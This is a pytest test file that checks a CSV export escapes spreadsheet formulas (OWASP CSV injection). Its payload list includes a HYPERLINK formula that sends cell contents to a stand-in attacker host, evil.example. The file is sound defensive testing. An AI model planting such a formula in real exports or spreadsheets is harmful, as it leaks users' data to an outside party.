"""CSV exports never hand a spreadsheet a formula made of client text (OWASP CSV injection)."""

import csv
import io

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncSession

from app.engagement.csv_export import to_csv
from app.engagement.series import empty_counts, figures
from tests.fixtures.factories import create_announcement
from tests.fixtures.tenants import Tenant

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


class TestCells:
    @pytest.mark.parametrize("title", FORMULAS)
    def test_every_text_column_starting_with_a_formula_character_is_quoted(
        self, title: str
    ) -> None:
        row = {**figures(empty_counts()), "announcement_id": title, "title": title}
        text = to_csv(["announcement_id", "title"], [row])
        (row,) = list(csv.DictReader(io.StringIO(text)))
        assert row["title"] == f"'{title}"
        assert row["announcement_id"] == f"'{title}"

    def test_plain_text_and_numbers_are_unchanged(self) -> None:
        row = {**figures(empty_counts()), "title": "What's new: 3 - 2 = 1", "n": -5}
        text = to_csv(["title", "n"], [row])
        (row,) = list(csv.DictReader(io.StringIO(text)))
        assert row["title"] == "What's new: 3 - 2 = 1"
        assert row["n"] == "-5"  # a number stays a number


class TestStatsExport:
    async def test_titles_are_exported_as_text(
        self, client: httpx.AsyncClient, session: AsyncSession, tenant: Tenant
    ) -> None:
        for title in FORMULAS:
            await create_announcement(session, tenant.workspace_id, status="published", title=title)
        response = await client.get("/v1/stats", params={"format": "csv"}, headers=tenant.auth)
        assert response.status_code == 200
        titles = {row["title"] for row in csv.DictReader(io.StringIO(response.text))}
        # Titles are stored stripped (a leading tab or line break is gone by then).
        assert titles == {f"'{title.strip()}" for title in FORMULAS}
        assert not any(title[:1] in "=+-@\t\r\n" for title in titles)
